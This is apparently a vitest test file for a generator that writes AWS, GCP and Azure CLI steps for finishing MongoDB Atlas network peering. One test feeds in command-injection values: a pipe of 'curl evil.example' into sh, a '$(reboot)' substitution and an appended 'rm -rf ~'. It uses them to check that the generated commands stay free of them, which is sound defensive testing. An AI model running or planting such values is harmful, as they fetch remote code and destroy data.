import { describe, expect, it } from "vitest";
import type { AtlasContainer, AtlasObservation } from "../../../src/domain/change/ChangeRecord.js";
import {
  type NextActionSource,
  nextAction,
  nextActionCommands,
} from "../../../src/domain/change/nextAction.js";
import type { Provider } from "../../../src/domain/peering/providers/index.js";

const PEER = "5f1e2d3c4b5a69788796a5c1";
const PCX = "pcx-0a1b2c3d4e5f60718";
/** The AWS peer as Atlas answers it: every setting, `accepterRegionName` null (the container's region). */
const AWS_PEER = {
  containerId: "5f1e2d3c4b5a69788796a5d1",
  awsAccountId: "123456789012",
  accepterRegionName: null,
  routeTableCidrBlock: "10.9.0.0/21",
  vpcId: "vpc-0123456789abcdef0",
};
const AWS_CONTAINER: AtlasContainer = {
  id: "5f1e2d3c4b5a69788796a5d1",
  atlasCidrBlock: "192.168.248.0/21",
  regionName: "US_EAST_1",
};

function change(
  provider: Provider,
  desired: object,
  atlas: AtlasObservation,
  container?: AtlasContainer,
): NextActionSource {
  return {
    provider,
    peerId: PEER,
    desired: JSON.stringify(desired),
    atlas,
    ...(container ? { container } : {}),
  };
}

describe("the AWS next action, from Atlas's answer and the container", () => {
  // The case: a v1.0 body with one field, while Atlas's answer carried the account and the region.
  const partial = change(
    "AWS",
    { routeTableCidrBlock: "10.9.0.0/21" },
    { status: "PENDING_ACCEPTANCE", connectionId: PCX, peer: AWS_PEER },
    AWS_CONTAINER,
  );

  it("names the pcx, the account and region Atlas holds, the Atlas CIDR and the VPC, not placeholders", () => {
    expect(nextAction(partial)).toBe(
      `Accept VPC peering connection ${PCX} in AWS account 123456789012, region us-east-1, then add a route ` +
        "to the Atlas CIDR 192.168.248.0/21 through it in the route tables of VPC vpc-0123456789abcdef0.",
    );
  });

  it("gives the accept and create-route commands, in the container's region when Atlas reports null", () => {
    expect(nextActionCommands(partial)).toEqual([
      `aws ec2 accept-vpc-peering-connection --vpc-peering-connection-id ${PCX} --region us-east-1`,
      "aws ec2 create-route --route-table-id <your route table> --destination-cidr-block 192.168.248.0/21 " +
        `--vpc-peering-connection-id ${PCX} --region us-east-1`,
    ]);
  });

  it("prefers what Atlas holds over what the body asked", () => {
    const asked = {
      awsAccountId: "999999999999",
      accepterRegionName: "eu-west-1",
      vpcId: "vpc-1111111111111111a",
    };
    const held = { ...AWS_PEER, accepterRegionName: "ap-south-1" };
    const text = nextAction(change("AWS", asked, { connectionId: PCX, peer: held }, AWS_CONTAINER));
    expect(text).toContain("AWS account 123456789012, region ap-south-1");
    expect(text).toContain("VPC vpc-0123456789abcdef0");
    expect(text).not.toMatch(/999999999999|eu-west-1|vpc-1111/);
  });

  it("falls back to the body, then to words, when Atlas's answer and the container are not known", () => {
    const fromBody = change("AWS", { awsAccountId: "123456789012", accepterRegionName: "eu-west-1" }, {});
    expect(nextAction(fromBody)).toBe(
      "Accept VPC peering connection (its id appears once Atlas has requested it) in AWS account 123456789012, " +
        "region eu-west-1, then add a route to the Atlas CIDR (the Atlas container's atlasCidrBlock) through it " +
        "in the route tables of VPC (your VPC).",
    );
    expect(nextActionCommands(fromBody)).toEqual([
      "aws ec2 accept-vpc-peering-connection --vpc-peering-connection-id <vpc-peering-connection-id> --region eu-west-1",
      "aws ec2 create-route --route-table-id <your route table> --destination-cidr-block <Atlas CIDR> " +
        "--vpc-peering-connection-id <vpc-peering-connection-id> --region eu-west-1",
    ]);
  });

  it("reads a null region as the container's, and as unknown when the container was not read", () => {
    const noContainer = change("AWS", {}, { connectionId: PCX, peer: AWS_PEER });
    expect(nextAction(noContainer)).toContain("region (the Atlas container's region)");
    expect(nextActionCommands(noContainer)[0]).toMatch(/--region <region>$/);
    const asked = change("AWS", { accepterRegionName: "us-east-1" }, { connectionId: PCX, peer: AWS_PEER });
    expect(nextAction(asked)).toContain("region us-east-1");
  });

  it("never puts a value that could break out of its argument into a command", () => {
    const hostile = change(
      "AWS",
      { accepterRegionName: "us-east-1; curl evil.example | sh" },
      { connectionId: "pcx-1$(reboot)" },
      { id: "c", atlasCidrBlock: "10.0.0.0/8 && rm -rf ~", regionName: "US_EAST_1" },
    );
    const commands = nextActionCommands(hostile).join("\n");
    expect(commands).not.toMatch(/curl|reboot|rm -rf|[;$&|]/);
    expect(commands).toContain("--vpc-peering-connection-id <vpc-peering-connection-id>");
    expect(commands).toContain("--destination-cidr-block <Atlas CIDR>");
  });
});

describe("the GCP next action: the reciprocal peering with Atlas's project and network", () => {
  const gcp = change(
    "GCP",
    { providerName: "GCP", containerId: "5f1e2d3c4b5a69788796a5d3", networkName: "asked-network" },
    { status: "WAITING_FOR_USER", peer: { gcpProjectId: "my-proj-123", networkName: "prod-vpc" } },
    {
      id: "5f1e2d3c4b5a69788796a5d3",
      atlasCidrBlock: "192.168.0.0/18",
      gcpProjectId: "p-q3x8k2m7v1n5b9c4z6w0r2t8",
      networkName: "nt-5f1e2d3c4b5a69788796a5d3-7k2m9x4q",
    },
  );

  it("names the customer's network and project and Atlas's, and gives the gcloud command", () => {
    expect(nextAction(gcp)).toBe(
      "In GCP project my-proj-123, create a VPC network peering from network prod-vpc to network " +
        "nt-5f1e2d3c4b5a69788796a5d3-7k2m9x4q of Atlas's project p-q3x8k2m7v1n5b9c4z6w0r2t8 (Atlas's CIDR " +
        "192.168.0.0/18 must not overlap your subnets), then wait for Atlas to report AVAILABLE.",
    );
    expect(nextActionCommands(gcp)).toEqual([
      `gcloud compute networks peerings create atlas-${PEER} --network=prod-vpc ` +
        "--peer-project=p-q3x8k2m7v1n5b9c4z6w0r2t8 --peer-network=nt-5f1e2d3c4b5a69788796a5d3-7k2m9x4q " +
        "--project=my-proj-123",
    ]);
  });

  it("leaves Atlas's side as placeholders until the container is known", () => {
    const { container: _read, ...unread } = gcp;
    expect(nextAction(unread)).toContain("to network (the Atlas container's networkName)");
    expect(nextActionCommands(unread)[0]).toContain(
      "--peer-project=<Atlas gcpProjectId> --peer-network=<Atlas networkName>",
    );
  });
});

describe("the Azure next action: Atlas's service principal and its role on the VNet", () => {
  const body = {
    providerName: "AZURE",
    azureDirectoryId: "0f3e5c1a-8b7d-4e2f-9a6b-1c2d3e4f5a6b",
    azureSubscriptionId: "6b5a4f3e-2d1c-4b6a-9f2e-7d8b1a5c3e0f",
    resourceGroupName: "atlas-demo-rg",
    vnetName: "atlas-demo-vnet",
  };
  const scope =
    "/subscriptions/6b5a4f3e-2d1c-4b6a-9f2e-7d8b1a5c3e0f/resourceGroups/atlas-demo-rg/providers/" +
    "Microsoft.Network/virtualNetworks/atlas-demo-vnet";

  it("names the VNet and the service principal, and gives MongoDB's three az commands", () => {
    const azure = change("AZURE", body, {});
    expect(nextAction(azure)).toContain("VNet atlas-demo-vnet in resource group atlas-demo-rg");
    expect(nextAction(azure)).toContain("e90a1407-55c3-432d-9cb1-3638900a9d22");
    const [sp, definition, assignment] = nextActionCommands(azure);
    expect(sp).toBe("az ad sp create --id e90a1407-55c3-432d-9cb1-3638900a9d22");
    const json = /--role-definition '(.*)'$/.exec(definition ?? "")?.[1] ?? "";
    expect(JSON.parse(json)).toMatchObject({
      Name: "AtlasPeering/6b5a4f3e-2d1c-4b6a-9f2e-7d8b1a5c3e0f/atlas-demo-rg/atlas-demo-vnet",
      IsCustom: true,
      Actions: expect.arrayContaining(["Microsoft.Network/virtualNetworks/peer/action"]),
      AssignableScopes: [scope],
    });
    expect(assignment).toBe(
      'az role assignment create --role "AtlasPeering/6b5a4f3e-2d1c-4b6a-9f2e-7d8b1a5c3e0f/atlas-demo-rg/' +
        `atlas-demo-vnet" --assignee "e90a1407-55c3-432d-9cb1-3638900a9d22" --scope "${scope}"`,
    );
  });
});

describe("a provider no module knows", () => {
  it("gets the general step and no commands", () => {
    const unknown = change("IBM" as Provider, {}, {});
    expect(nextAction(unknown)).toBe(
      "Complete the peering on the cloud side, then wait for Atlas to report AVAILABLE.",
    );
    expect(nextActionCommands(unknown)).toEqual([]);
  });
});
